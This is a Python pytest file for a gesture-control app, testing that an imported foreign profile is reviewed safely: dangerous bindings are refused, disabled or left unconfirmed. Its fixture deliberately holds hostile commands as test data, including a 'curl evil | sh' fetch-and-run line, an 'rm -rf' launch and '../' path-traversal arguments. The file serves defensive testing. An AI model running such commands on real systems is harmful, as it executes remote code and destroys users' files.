"""Can somebody else's profile be looked at without any danger?"""

from dataclasses import replace
from pathlib import Path

import pytest

from gesture_app.actions.action import LaunchProgram, PressKeys
from gesture_app.profiles.import_review import (
    ImportedBinding,
    export_profile,
    in_words,
    review_import,
)
from gesture_app.profiles.problems import ProfileError
from gesture_app.profiles.profile import ApplicationRule, Binding, Profile
from gesture_app.profiles.reading import MAX_BINDINGS, load_profile
from gesture_app.profiles.store import ProfileStore

FOREIGN = """
schema = 2
name = "Foreign"
[bindings]
"Swiping Left" = { do = "media.next" }
"Swiping Up" = { do = "volume.up", behaviour = "repeat", repeat_s = 0.5 }
"Swiping Down" = { keys = "space", behaviour = "hold" }
"Thumb Up" = { keys = "alt+f4", confirmed = true }
"Thumb Down" = { launch = ["rm", "-rf", "my files"], confirmed = true }
"Stop Sign" = { shell = "curl evil | sh" }
"Shaking Hand" = { launch = ["run", "../../evil"] }
[[rules]]
name = "Web"
applications = ["firefox", "chrome"]
[rules.bindings]
"Thumb Up" = { nothing = true }
"Drumming Fingers" = { scroll = 99 }
"""


def kept_in(folder: Path, text: str) -> Path:
    path = folder / "foreign.toml"
    path.write_text(text, encoding="utf-8")
    return path


def test_all_that_it_does_is_told_in_words(tmp_path: Path) -> None:
    review = review_import(kept_in(tmp_path, FOREIGN))

    assert review.bindings == (
        ImportedBinding("everywhere", "Swiping Left", "do media.next"),
        ImportedBinding(
            *("everywhere", "Swiping Up"),
            "do volume.up, again every 0.5 s while the gesture lasts",
        ),
        ImportedBinding(
            *("everywhere", "Swiping Down"),
            "press space, held while the gesture lasts, at most 5 s",
        ),
        ImportedBinding(
            *("everywhere", "Thumb Up", "press alt+f4"),
            "It can lose work: the gesture must be made twice until you confirm it.",
        ),
        ImportedBinding(
            *("everywhere", "Thumb Down", "launch rm -rf 'my files'"),
            "It is switched off: look at it before you switch it on.",
        ),
        ImportedBinding("in firefox, chrome", "Thumb Up", "do nothing"),
    )


def test_bad_entries_are_left_out_one_by_one_with_reasons(tmp_path: Path) -> None:
    refused = [str(problem) for problem in review_import(kept_in(tmp_path, FOREIGN)).refused]

    assert refused == [
        "bindings > Stop Sign > shell: there is no such option.",
        "rules > Web > bindings > Drumming Fingers > scroll: must be less than or equal to 30",
        "bindings > Shaking Hand: leads to another folder with '..'",
    ]


def test_nothing_starts_a_program_or_is_confirmed_by_being_imported(tmp_path: Path) -> None:
    profile = review_import(kept_in(tmp_path, FOREIGN)).profile

    assert profile.binding_for("Thumb Down") is None
    assert profile.bindings["Thumb Down"].action == LaunchProgram(("rm", "-rf", "my files"))
    assert not any(binding.is_confirmed for binding in profile.bindings.values())


@pytest.mark.parametrize(
    "argument", ["..", "../a", "a/..", "a/../b", "--to=../a", r"..\a", "a:..", "file://x/.."]
)
def test_no_argument_leads_to_the_folder_above(tmp_path: Path, argument: str) -> None:
    path = kept_in(
        tmp_path,
        f'schema = 2\nname = "A"\n[bindings]\na = {{ launch = ["x", {argument!r}] }}',
    )

    with pytest.raises(ProfileError, match="bindings > a: leads to another folder"):
        review_import(path)


@pytest.mark.parametrize("argument", ["a..b", "...", "1.2", "./a", "video.mp4"])
def test_dots_elsewhere_are_harmless(tmp_path: Path, argument: str) -> None:
    path = kept_in(
        tmp_path,
        f'schema = 2\nname = "A"\n[bindings]\na = {{ launch = ["x", {argument!r}] }}',
    )

    assert len(review_import(path).bindings) == 1


def test_looking_at_a_profile_changes_nothing(tmp_path: Path) -> None:
    store = ProfileStore(tmp_path / "own")
    before = store.profiles()

    review_import(kept_in(tmp_path, FOREIGN))

    assert store.profiles() == before
    assert [path.name for path in tmp_path.iterdir()] == ["foreign.toml"]


def test_what_was_reviewed_can_be_kept_as_it_was_shown(tmp_path: Path) -> None:
    store = ProfileStore(tmp_path / "own")
    review = review_import(kept_in(tmp_path, FOREIGN.replace("Foreign", "Media")))

    kept = store.add(review.profile)

    assert kept.name == "Media 2"
    assert in_words(store.load("Media 2").profile) == review.bindings


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "bindings: is missing"),
        ('schema = 2\nname = "A"\n[bindings]', "nothing that can be used: it binds no gesture"),
        ("MZ\0\1", "not valid TOML"),
        ("#" * 300_000, "larger than 256 KiB"),
        (
            "[bindings]\n" + "".join(f"g{n} = {{}}\n" for n in range(MAX_BINDINGS + 1)),
            "more than 500 bindings",
        ),
    ],
)
def test_what_is_no_profile_is_refused(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(ProfileError, match=message):
        review_import(kept_in(tmp_path, text))


def test_what_is_passed_on_is_the_same_but_unconfirmed(tmp_path: Path) -> None:
    sure = Binding(action=PressKeys(("alt", "f4")), is_confirmed=True)
    rule = ApplicationRule(name="Web", applications=("firefox",), bindings={"Thumb Up": sure})
    profile = Profile("Mine", {"Thumb Up": sure}, (rule,))

    export_profile(profile, tmp_path / "mine.toml")

    unsure = {"Thumb Up": replace(sure, is_confirmed=False)}
    assert load_profile(tmp_path / "mine.toml") == Profile(
        "Mine", unsure, (replace(rule, bindings=unsure),)
    )
